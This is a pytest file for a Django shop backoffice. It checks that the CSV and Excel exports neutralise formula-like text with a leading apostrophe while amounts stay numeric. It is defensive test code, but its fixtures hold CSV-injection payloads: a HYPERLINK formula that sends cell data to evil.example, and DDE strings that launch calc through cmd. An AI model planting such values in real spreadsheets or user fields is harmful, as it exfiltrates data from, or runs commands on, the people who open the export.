"""Exports never hand a spreadsheet a formula: every text cell that starts with ``=``, ``+``,
``-``, ``@``, tab or CR gets a leading ``'`` (OWASP's CSV-injection rule), in CSV and Excel,
for every kind of export; amounts stay numbers (negative ones too)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from apps.accounts.wallet import balance_adjust
from apps.payments import refunds
from apps.payments.models import Payment, ReconciliationRun, Refund
from starmall.spreadsheet import safe_text

pytestmark = pytest.mark.django_db
URL = "/admin/backoffice/export/"
NICKNAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
ADDRESS_NAME = "+1+cmd|' /C calc'!A0"
ADDRESS_DETAIL = "@SUM(1+1)"


def _export(client, kind: str, fmt: str, day: dt.date | None = None):
    day = day or timezone.localdate()
    response = client.get(URL, {"kind": kind, "start": day.isoformat(), "end": day.isoformat(), "fmt": fmt})
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    return load_workbook(io.BytesIO(body)).active


def _row(sheet, first) -> list:
    """The cells (openpyxl Cell objects) of the row whose first cell is ``first``."""
    return next(row for row in sheet.iter_rows() if row[0].value == first)


@pytest.fixture
def hostile_order(api, make_sku, place_order):
    """A goods order placed through the API by a customer whose nickname and address were set
    through the API to formulas."""
    assert api.patch("/api/v1/me", {"nickname": NICKNAME}, format="json").status_code == 200
    created = api.post(
        "/api/v1/addresses",
        {
            "name": ADDRESS_NAME,
            "phone": "13800000000",
            "province": "浙江省",
            "city": "杭州市",
            "district": "西湖区",
            "detail": ADDRESS_DETAIL,
        },
        format="json",
    )
    assert created.status_code == 201, created.json()
    from apps.accounts.models import Address

    order = place_order(
        api, items=[(make_sku(price_fen=12800), 1)], address=Address.objects.get(pk=created.json()["id"])
    )
    return order["order_no"]


ADDRESS_CELL = f"'{ADDRESS_NAME} 13800000000 浙江省杭州市西湖区{ADDRESS_DETAIL}"


def test_orders_csv_neutralises_the_customers_nickname_and_address(role_client, hostile_order):
    table = _export(role_client("财务"), "orders", "csv")
    row = next(r for r in table if r[0] == hostile_order)
    assert row[1] == "'" + NICKNAME
    assert row[13] == ADDRESS_CELL
    assert row[4] == "128.00"  # amounts untouched


def test_orders_xlsx_stores_the_nickname_as_text_not_a_formula(role_client, hostile_order):
    row = _row(_export(role_client("财务"), "orders", "xlsx"), hostile_order)
    assert row[1].value == "'" + NICKNAME and row[1].data_type == "s"
    assert row[13].value == ADDRESS_CELL and row[13].data_type == "s"
    assert row[4].value == 128 and row[4].data_type == "n" and row[4].number_format == "0.00"
    assert not any(cell.data_type == "f" for cell in row)


def test_orders_xlsx_drops_control_characters_excel_cannot_hold(role_client, api, make_sku, place_order, address):
    # openpyxl refuses "\x07" in a cell (IllegalCharacterError): the whole export was a 500.
    assert api.patch("/api/v1/me", {"nickname": "\x07-小明"}, format="json").status_code == 200
    order = place_order(api, items=[(make_sku(), 1)], address=address)
    row = _row(_export(role_client("财务"), "orders", "xlsx"), order["order_no"])
    assert row[1].value == "'-小明" and row[1].data_type == "s"


@pytest.fixture
def refunded_payment(api, customer, make_sku, place_order, address):
    """An order paid from the balance and a refund approved for it, through the API and the
    refund services; WeChat-side texts (the refund's last error, the payment's transaction id)
    are then given formula-like values, as a hostile or broken answer could store them."""
    balance_adjust(customer_id=customer.pk, amount_fen=100000, ref="test:top-up")
    order = place_order(api, items=[(make_sku(price_fen=12800), 1)], address=address)
    paid = api.post(f"/api/v1/orders/{order['order_no']}/pay", {"method": "balance"}, format="json")
    assert paid.status_code == 200, paid.json()
    asked = api.post(f"/api/v1/orders/{order['order_no']}/refund", {"reason": "不想要了"}, format="json")
    assert asked.status_code == 202, asked.json()
    from apps.orders.models import AfterSale

    refund = refunds.after_sale_approve(
        after_sale_id=AfterSale.objects.get(order__order_no=order["order_no"]).pk, actor="staff:finance"
    )
    Refund.objects.filter(pk=refund.pk).update(last_error="-2+3+cmd|' /C calc'!A0")
    payment = Payment.objects.get(order__order_no=order["order_no"])
    Payment.objects.filter(pk=payment.pk).update(transaction_id="@SUM(1+1)")
    return refund.out_refund_no, payment.order.order_no


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_refunds_export_neutralises_text(role_client, refunded_payment, fmt):
    out_refund_no, _ = refunded_payment
    sheet = _export(role_client("财务"), "refunds", fmt)
    if fmt == "csv":
        row = next(r for r in sheet if r[0] == out_refund_no)
        assert row[6] == "'-2+3+cmd|' /C calc'!A0" and row[4] == "128.00"
    else:
        row = _row(sheet, out_refund_no)
        assert row[6].value == "'-2+3+cmd|' /C calc'!A0" and row[6].data_type == "s"
        assert row[4].value == 128 and row[4].data_type == "n"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_payments_export_neutralises_text(role_client, refunded_payment, fmt):
    _, order_no = refunded_payment
    sheet = _export(role_client("财务"), "payments", fmt)
    if fmt == "csv":
        row = next(r for r in sheet if r[1] == order_no)
        assert row[6] == "'@SUM(1+1)" and row[4] == "128.00" and row[5] == "128.00"
    else:
        row = next(r for r in sheet.iter_rows() if r[1].value == order_no)
        assert row[6].value == "'@SUM(1+1)" and row[6].data_type == "s"
        assert row[5].value == 128 and row[5].data_type == "n"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reconciliation_export_keeps_negative_amounts_numbers(role_client, fmt):
    # A day with more refunded than paid: WeChat's net is negative. The error text starts with
    # "-" too: text is neutralised, the numbers are not.
    day = dt.date(2026, 11, 30)
    ReconciliationRun.objects.create(
        bill_date=day,
        status=ReconciliationRun.Status.DIFFERENCES,
        wechat_count=2,
        local_count=1,
        wechat_fen=-1234,
        local_fen=-1000,
        error="-ERR 账单缺行",
    )
    sheet = _export(role_client("财务"), "reconciliation", fmt, day)
    if fmt == "csv":
        assert sheet[1][:8] == ["2026-11-30", "有差异", "2", "1", "-12.34", "-10.00", "0", "'-ERR 账单缺行"]
    else:
        row = _row(sheet, dt.datetime(2026, 11, 30))  # the bill date: an Excel date, not text
        assert row[0].is_date and row[0].number_format == "yyyy-mm-dd"
        assert [c.value for c in row[4:6]] == [-12.34, -10] and {c.data_type for c in row[4:6]} == {"n"}
        assert row[7].value == "'-ERR 账单缺行" and row[7].data_type == "s"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_safe_text_prefixes_every_formula_start(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "1+1", " =1", "", None, 12, Decimal("-12.34"), dt.date(2026, 1, 1)])
def test_safe_text_leaves_other_values_alone(value):
    assert safe_text(value) is value
